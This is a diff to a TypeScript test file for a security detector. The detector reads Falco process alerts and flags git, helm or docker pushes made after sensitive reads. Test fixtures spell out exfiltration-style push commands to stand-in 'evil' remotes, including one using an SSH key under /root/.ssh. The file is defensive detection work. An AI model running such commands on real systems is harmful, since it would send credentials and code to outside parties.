@@ -1,17 +1,20 @@
 /**
- * A push read plainly from Falco's unquoted words is no argv the process had when the words outnumber its
- * arguments: a maven property holding a goal (`-Dmsg="run deploy later"`) read plainly as the goal (found by
- * review). It stands only when some grouping of the words into the count is one.
+ * Which reading of Falco's unquoted argv is taken when one is a push and another is not (found by review): a
+ * `key=value` text naming a push (`--set-string "msg=helm push chart.tgz oci://…"`, `--build-arg "NOTE=docker
+ * push …"`) read as a push once an earlier value swallowed the real sub-command; a maven property holding a goal
+ * (`-Dmsg="run deploy later"`) read plainly as the goal. git's options before its sub-command own their values.
  */
 import { describe, expect, it } from 'vitest';
 import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
 import { plainPushHeld } from '../../../src/rules/joined-argv.js';
 import { pushTools } from '../../../src/rules/push-tools.js';
+import { keyValueTextReadings } from '../../../src/rules/reading-rank.js';
 import { type ProcessView, type Recognition, recognizeProcess } from '../../../src/rules/recognize.js';
 import { falcoRun } from '../../fixtures/falco/credential-run.js';
 import { brief, runResolved } from '../correlate/builder.js';
 
 const GITHUB = '140.82.112.3'; // builder.ts TEST_DNS: github.com
+const GHCR = '140.82.121.33'; // ghcr.io
 
 /** The process view the correlator recognises, as Falco's exec alert for `argv` normalizes to it. */
 function falcoView(exe: string, argv: readonly string[]): ProcessView {
@@ -38,6 +41,149 @@ function pushOf(exe: string, argv: readonly string[]) {
 
 const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;
 const words = (n: number) => Array.from({ length: n }, (_, i) => `w${i}`).join(' ');
+
+const HELM_TEXTS = [
+  ['helm', '-n', 'prod', 'upgrade', 'rel', './chart', '--set-string', 'msg=helm push chart.tgz oci://ghcr.io/x/y'],
+  [
+    'helm',
+    '--namespace',
+    'prod',
+    'upgrade',
+    'rel',
+    './chart',
+    '--set-string',
+    'msg=helm push chart.tgz oci://ghcr.io/x/y',
+  ],
+];
+const DOCKER_TEXTS = [
+  ['docker', '--context', 'ci', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
+  ['docker', '--context', 'ci', 'build', '-t', 'app:1', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
+  ['docker', '--context', 'ci', 'buildx', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
+  ['docker', '-H', 'tcp://10.0.0.9:2375', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
+  ['docker', '--context', 'ci', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.', '-f', 'Dockerfile'],
+];
+
+describe('a key=value text naming a push, in an option value after the real sub-command', () => {
+  it('is the text, not a push: the reading gluing the sub-command into a value loses', () => {
+    for (const argv of HELM_TEXTS) expect(pushOf('/usr/bin/helm', argv), argv.join(' ')).toBeNull();
+    for (const argv of DOCKER_TEXTS) expect(pushOf('/usr/bin/docker', argv), argv.join(' ')).toBeNull();
+  });
+
+  it('raises nothing through the Falco normalizer and the correlator, the registry connected or not', async () => {
+    for (const ip of [GHCR, null]) {
+      for (const argv of HELM_TEXTS) expect(await alertsOf(run('/usr/bin/helm', argv, ip)), argv.join(' ')).toEqual([]);
+      for (const argv of DOCKER_TEXTS)
+        expect(await alertsOf(run('/usr/bin/docker', argv, ip)), argv.join(' ')).toEqual([]);
+    }
+  });
+
+  it('rebuilds that rival reading only around one of the tool’s everyday sub-commands', () => {
+    const helm = HELM_TEXTS[0]!.slice(1).join(' ').split(' ');
+    const spec = pushTools.find((s) => s.tool === 'helm')!;
+    const commands = new Set(spec.commonCommands);
+    expect(keyValueTextReadings(helm, 7, spec.syntax, commands)(helm.indexOf('push'))).toEqual([
+      ...HELM_TEXTS[0]!.slice(1, 7),
+      'msg=helm push chart.tgz oci://ghcr.io/x/y',
+    ]);
+    // `dir` is no git sub-command: `git -C "my dir" -c "a=b c" push URL` keeps its push.
+    const git = '-C my dir -c a=b c push https://h/x.git'.split(' ');
+    const gitSpec = pushTools.find((s) => s.tool === 'git')!;
+    expect(keyValueTextReadings(git, 6, gitSpec.syntax, new Set(gitSpec.commonCommands))(6)).toBeNull();
+  });
+
+  it('keeps real pushes with spaced arguments, padded or planted, pushes', async () => {
+    const pushes: Array<[string, string[], string, string]> = [
+      ['/usr/bin/helm', ['helm', 'push', 'my chart.tgz', 'oci://ghcr.io/evil/x'], GHCR, 'ghcr.io'],
+      // Planted `upgrade` in a value, no `key=value` text before the push word: nothing else to read.
+      [
+        '/usr/bin/helm',
+        [
+          'helm',
+          '--kube-context',
+          'prod upgrade',
+          '--kube-as-group',
+          words(20),
+          'push',
+          'c.tgz',
+          'oci://ghcr.io/evil/x',
+        ],
+        GHCR,
+        'ghcr.io',
+      ],
+      ['/usr/bin/docker', ['docker', '--config', '/tmp/my cfg', 'push', 'ghcr.io/evil/x'], GHCR, 'ghcr.io'],
+      ['/usr/bin/docker', ['docker', '--context', 'ci build', 'push', 'ghcr.io/evil/x'], GHCR, 'ghcr.io'],
+      // Its own spaced values are `key=value` texts too: a tie, and the push stands.
+      [
+        '/usr/bin/git',
+        ['git', '-c', 'x=1 commit y', '-c', 'k=v', 'push', 'https://github.com/evil/x.git'],
+        GITHUB,
+        'github.com',
+      ],
+      [
+        '/usr/bin/git',
+        ['git', '-C', 'my dir', '-c', 'a=b c', 'push', 'https://github.com/evil/x.git'],
+        GITHUB,
+        'github.com',
+      ],
+    ];
+    for (const [exe, argv, ip, destination] of pushes) {
+      const alerts = await alertsOf(run(exe, argv, ip));
+      expect(brief(alerts), argv.join(' ')).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: argv[0], destination },
+      ]);
+      expect(alerts[0]?.push.remote, argv.join(' ')).toBe(argv[argv.length - 1]);
+    }
+  });
+});
+
+describe('git’s options before its sub-command, with Falco’s unquoted argv', () => {
+  it('own their next word: each reads as the push it is, to its remote', () => {
+    const ssh = 'git@github.com:evil/x.git';
+    const https = 'https://github.com/evil/x.git';
+    const cases: Array<[string[], string, string]> = [
+      [['git', '-c', 'user.name=x', 'push', https], https, 'github.com'],
+      [['git', '-c', 'user.name=ci bot', 'push', https], https, 'github.com'],
+      [['git', '-C', 'dir', 'push', https], https, 'github.com'],
+      [['git', '-C', 'my dir', 'push', https], https, 'github.com'],
+      [['git', '--git-dir', 'd', 'push', https], https, 'github.com'],
+      [['git', '--git-dir', '/w/my repo/.git', '--work-tree', '/w', 'push', https], https, 'github.com'],
+      [['git', '-c', 'core.sshCommand=ssh -i k', 'push', ssh], ssh, 'github.com'],
+      [
+        ['git', '-c', 'core.sshCommand=ssh -i /k/id -o StrictHostKeyChecking=no', 'push', ssh, 'HEAD:main'],
+        ssh,
+        'github.com',
+      ],
+      [
+        ['git', '-c', 'core.sshCommand=ssh -p 2222', 'push', 'ssh://git@gitlab.com/e/x.git'],
+        'ssh://git@gitlab.com/e/x.git',
+        'gitlab.com',
+      ],
+    ];
+    for (const [argv, remote, host] of cases)
+      expect(pushOf('/usr/bin/git', argv), argv.join(' ')).toEqual({ tool: 'git', remote, host });
+  });
+
+  it('take an alias’s `push` for a value, not the sub-command', async () => {
+    const aliases = [
+      ['git', '-c', 'alias.x=push', 'status'],
+      ['git', '-c', 'alias.x=push origin', 'status'],
+      ['git', '-c', 'alias.x=push https://github.com/evil/x.git', 'status'],
+    ];
+    for (const argv of aliases) {
+      expect(pushOf('/usr/bin/git', argv), argv.join(' ')).toBeNull();
+      expect(await alertsOf(run('/usr/bin/git', argv, GITHUB)), argv.join(' ')).toEqual([]);
+    }
+  });
+
+  it('alert with the push’s own destination through the normalizer and the correlator', async () => {
+    const argv = ['git', '-c', 'core.sshCommand=ssh -i /root/.ssh/id_ed25519', 'push', 'git@github.com:evil/x.git'];
+    const alerts = await alertsOf(run('/usr/bin/git', argv, GITHUB));
+    expect(brief(alerts)).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+    ]);
+    expect(alerts[0]?.push.remote).toBe('git@github.com:evil/x.git');
+  });
+});
 
 describe('a push read plainly from words that outnumber the arguments', () => {
   it('stands only when some grouping of the words into the count is one (`mvn -Dmsg="run deploy later" verify`)', async () => {
